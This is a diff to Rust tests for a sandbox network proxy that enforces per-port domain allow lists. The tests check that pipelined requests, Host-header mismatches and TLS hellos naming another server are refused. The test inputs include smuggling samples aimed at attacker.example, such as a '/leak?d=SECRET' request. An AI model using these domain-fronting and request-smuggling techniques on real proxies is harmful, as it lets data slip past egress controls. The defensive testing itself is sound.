@@ -159,9 +159,13 @@ async fn a_denied_or_unlisted_host_gets_a_403_that_says_why() {
         answer.ends_with("kelp's sandbox: registry.test is on denied_domains (`registry.test`)\n"),
         "{answer}"
     );
+    // Not on the web's ports, the rule names the port.
     let answer = fetch(&setup, "example.org").await;
     assert!(
-        answer.contains("example.org is not on allowed_domains\n"),
+        answer.contains(&format!(
+            "example.org:{} is not on allowed_domains\n",
+            setup.port
+        )),
         "{answer}"
     );
     let contacts = setup.proxy.contacts();
@@ -175,7 +179,7 @@ async fn a_denied_or_unlisted_host_gets_a_403_that_says_why() {
 #[tokio::test]
 async fn a_name_that_leads_home_is_refused_after_it_is_resolved() {
     // Allowed by a wildcard, but it resolves to loopback: refused, as an address is.
-    let setup = setup(&["*.test", "127.0.0.1"], &[], None).await;
+    let setup = setup(&["*.test:PORT", "127.0.0.1"], &[], None).await;
     let answer = fetch(&setup, "home.test").await;
     assert!(
         answer
@@ -192,9 +196,10 @@ async fn a_first_contact_is_asked_once_a_command_and_the_answer_kept() {
     let (a, b) = tokio::join!(fetch(&refusing, "home.test"), fetch(&refusing, "home.test"));
     for answer in [a, b] {
         assert!(
-            answer.contains(
-                "home.test is not on allowed_domains, and the person did not allow it: not today"
-            ),
+            answer.contains(&format!(
+                "home.test:{} is not on allowed_domains, and the person did not allow it: not today",
+                refusing.port
+            )),
             "{answer}"
         );
     }
@@ -230,7 +235,10 @@ async fn a_first_contact_is_asked_once_a_command_and_the_answer_kept() {
     let unasked = setup(&[], &[], Some(Answer::Unasked(None))).await;
     let answer = fetch(&unasked, "other.test").await;
     assert!(
-        answer.ends_with("kelp's sandbox: other.test is not on allowed_domains\n"),
+        answer.ends_with(&format!(
+            "kelp's sandbox: other.test:{} is not on allowed_domains\n",
+            unasked.port
+        )),
         "{answer}"
     );
     assert!(!unasked.scope.refusals()[0].by_person);
@@ -295,35 +303,90 @@ async fn a_question_about_one_host_holds_up_no_other() {
     );
 }
 
-/// A plain request goes to the host it names with `Connection: close`: the client's next
-/// request, which may name another host, comes on a new connection, judged anew.
+/// A plain request goes to the host it names with that host as its `Host` and `Connection:
+/// close`, and its answer comes back saying `Connection: close` whatever the server says;
+/// nothing after it of the client's is carried: a second request on the connection, which may
+/// name another host, closes it instead of reaching the server.
 #[tokio::test]
 async fn a_plain_request_carries_one_request_a_connection() {
     let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
     let port = listener.local_addr().unwrap().port();
     let (rules, _) = DomainRules::new(&[format!("127.0.0.1:{port}")], &[]);
     let proxy = Proxy::new(rules, Arc::new(SystemResolver));
-    let (client, server) = tokio::io::duplex(64 * 1024);
+    let (mut client, server) = tokio::io::duplex(64 * 1024);
     let carried = tokio::spawn(async move { proxy.carry(server, &CommandScope::default()).await });
-    let mut client = client;
     client
         .write_all(
             format!(
-                "GET http://127.0.0.1:{port}/a HTTP/1.1\r\nHost: x\r\nProxy-Connection: keep-alive\r\n\r\n"
+                "POST http://127.0.0.1:{port}/a HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\
+                 Proxy-Connection: keep-alive\r\nContent-Length: 4\r\n\r\nbody"
             )
             .as_bytes(),
         )
         .await
         .unwrap();
     let (mut stream, _) = listener.accept().await.unwrap();
-    let mut head = vec![0u8; 256];
-    let n = stream.read(&mut head).await.unwrap();
-    assert_eq!(
-        String::from_utf8_lossy(&head[..n]),
-        "GET /a HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
+    let expected = format!(
+        "POST /a HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 4\r\nConnection: close\r\n\r\nbody"
     );
-    drop((stream, client));
-    carried.await.unwrap().ok();
+    let mut got = vec![0u8; expected.len()];
+    stream.read_exact(&mut got).await.unwrap();
+    assert_eq!(String::from_utf8_lossy(&got), expected);
+    // A server that would keep the connection open.
+    stream
+        .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: keep-alive\r\nKeep-Alive: timeout=5\r\n\r\nok")
+        .await
+        .unwrap();
+    let mut answer = vec![0u8; 256];
+    let n = client.read(&mut answer).await.unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&answer[..n]),
+        "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
+    );
+    // The client speaks again on the connection: closed, and the server hears none of it.
+    client
+        .write_all(b"GET /leak HTTP/1.1\r\nHost: attacker.example\r\n\r\n")
+        .await
+        .unwrap();
+    let mut rest = Vec::new();
+    tokio::time::timeout(Duration::from_secs(5), client.read_to_end(&mut rest))
+        .await
+        .expect("closed")
+        .unwrap();
+    assert!(rest.is_empty());
+    carried.await.unwrap().unwrap();
+    let mut heard = Vec::new();
+    tokio::time::timeout(Duration::from_secs(5), stream.read_to_end(&mut heard))
+        .await
+        .expect("the server's side is closed too")
+        .unwrap();
+    assert!(heard.is_empty(), "{}", String::from_utf8_lossy(&heard));
+}
+
+/// A plain request whose `Host` names another server than its URL is refused in words: a
+/// server behind a CDN goes by the Host, so the URL's allowed host would be a door to any
+/// site on the same CDN.
+#[tokio::test]
+async fn a_host_header_that_is_not_the_urls_host_is_refused() {
+    let setup = setup(&["registry.test:PORT"], &[], None).await;
+    let smuggled = format!(
+        "GET http://registry.test:{}/leak?d=SECRET HTTP/1.1\r\nHost: attacker.example\r\n\r\n",
+        setup.port
+    );
+    let answer = exchange(&setup.socket, smuggled.as_bytes()).await;
+    assert!(answer.starts_with("HTTP/1.1 403 Forbidden"), "{answer}");
+    assert!(
+        answer.contains(&format!(
+            "the request's Host header names attacker.example, not registry.test:{}",
+            setup.port
+        )),
+        "{answer}"
+    );
+    // The twin: the honest Host is carried.
+    let honest = smuggled.replace("attacker.example", &format!("registry.test:{}", setup.port));
+    let answer = exchange(&setup.socket, honest.as_bytes()).await;
+    assert!(answer.ends_with("GET /leak?d=SECRET HTTP/1.1"), "{answer}");
+    assert!(setup.scope.refusals()[0].why.contains("Host header"));
 }
 
 #[tokio::test]
@@ -390,4 +453,87 @@ async fn a_command_has_at_most_so_many_connections_carried_at_once() {
         .expect("answered once one ended")
         .unwrap();
     assert_eq!(&answer, b"HTTP/1.1 403");
+}
+
+/// A tunnel to an allowed host whose TLS ClientHello names another server is refused: a CDN
+/// routes by the name, so an allowed name's address would be a door to any site on it. The
+/// client gets TLS's access-denied alert, the command's scope the reason; the honest hello
+/// (the twin) reaches the server. A tunnel to the web's ports that carries no TLS is refused
+/// too; to another port allowed by name and port it is carried.
+#[tokio::test]
+async fn a_tunnel_whose_hello_names_another_server_is_refused() {
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let heard = Arc::new(Mutex::new(Vec::<Vec<u8>>::new()));
+    let keep = Arc::clone(&heard);
+    tokio::spawn(async move {
+        while let Ok((mut stream, _)) = listener.accept().await {
+            let keep = Arc::clone(&keep);
+            tokio::spawn(async move {
+                let mut first = vec![0u8; 8192];
+                let n = stream.read(&mut first).await.unwrap_or(0);
+                keep.lock().unwrap().push(first[..n].to_vec());
+            });
+        }
+    });
+    let (rules, _) = DomainRules::new(&[format!("registry.test:{port}")], &[]);
+    let loopback: IpAddr = "127.0.0.1".parse().unwrap();
+    let resolver = MapResolver(HashMap::from([(
+        "registry.test".to_string(),
+        vec![loopback],
+    )]));
+    let proxy = Proxy::new(rules, Arc::new(resolver));
+    let tunnel = |hello: Vec<u8>| {
+        let proxy = Arc::clone(&proxy);
+        async move {
+            let scope = CommandScope::new(None);
+            let (mut client, server) = tokio::io::duplex(64 * 1024);
+            let carried = {
+                let scope = Arc::clone(&scope);
+                tokio::spawn(async move { proxy.carry(server, &scope).await })
+            };
+            let mut opening = format!("CONNECT registry.test:{port} HTTP/1.1\r\n\r\n").into_bytes();
+            opening.extend_from_slice(&hello);
+            client.write_all(&opening).await.unwrap();
+            // A refused tunnel ends; a carried one waits on its server, and is let go.
+            let mut answer = Vec::new();
+            let _ =
+                tokio::time::timeout(Duration::from_millis(500), client.read_to_end(&mut answer))
+                    .await;
+            drop(client);
+            carried.abort();
+            (answer, scope.refusals())
+        }
+    };
+    let (answer, refusals) = tunnel(request::tests::client_hello("attacker.example")).await;
+    let mut refused = b"HTTP/1.1 200 Connection established\r\n\r\n".to_vec();
+    refused.extend_from_slice(&TLS_ACCESS_DENIED);
+    assert_eq!(answer, refused, "TLS's own alert: access denied");
+    assert!(
+        refusals.iter().any(|r| r.why.contains(&format!(
+            "a tunnel to registry.test:{port} asked TLS for attacker.example, another server"
+        ))),
+        "{refusals:?}"
+    );
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    assert!(
+        heard.lock().unwrap().iter().all(|bytes| bytes.is_empty()),
+        "the server heard nothing of it"
+    );
+    assert!(proxy.contacts().refused.contains_key("registry.test"));
+
+    let (_, refusals) = tunnel(request::tests::client_hello("registry.test")).await;
+    assert!(refusals.is_empty(), "{refusals:?}");
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    assert!(
+        heard
+            .lock()
+            .unwrap()
+            .iter()
+            .any(|bytes| bytes.first() == Some(&0x16)),
+        "the honest hello reached the server"
+    );
+    // Another port, allowed by name and port: SSH is carried as it is.
+    let (_, refusals) = tunnel(b"SSH-2.0-OpenSSH_9.6\r\n".to_vec()).await;
+    assert!(refusals.is_empty(), "{refusals:?}");
 }
